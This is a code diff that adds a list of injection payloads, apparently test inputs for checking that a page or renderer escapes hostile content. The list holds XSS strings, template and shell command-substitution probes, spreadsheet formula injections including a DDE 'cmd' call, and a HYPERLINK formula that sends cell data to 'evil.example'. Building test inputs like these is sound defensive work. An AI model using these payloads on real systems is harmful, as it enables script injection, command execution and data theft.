@@ -129,3 +129,27 @@ def loaded(page: BeautifulSoup) -> list[str]:
     for style in page("style"):
         addresses += re.findall(r"(?:url\(|@import)\s*['\"]?([^)'\";]*)", style.text)
     return [address for address in addresses if not address.startswith(("data:", "#"))]
+
+
+RUN = "document.documentElement.dataset.pwned=1"
+#: What would run in a page that wrote it as it is; each also says in which way it tried.
+PAYLOADS = (
+    f"<script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f"<svg onload={RUN}></svg>",
+    f'"><b onmouseover={RUN}>bold</b>',
+    f"' onclick='{RUN}' x='",
+    f"[x](javascript:{RUN})",
+    f"javascript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    "{{7*7}} {% raw %} ${7*7}",
+    "$(touch pwned) `touch pwned`",
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    f"</style><script>{RUN}</script>",
+    f"--><script>{RUN}</script>",
+    f"]]></script></title></textarea><script>{RUN}</script>",
+    f"<a href=javascript:{RUN}>link</a><iframe srcdoc='<script>parent.{RUN}</script>'>",
+    "$$ <b>maths</b> $$ \\(x\\)",
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+)
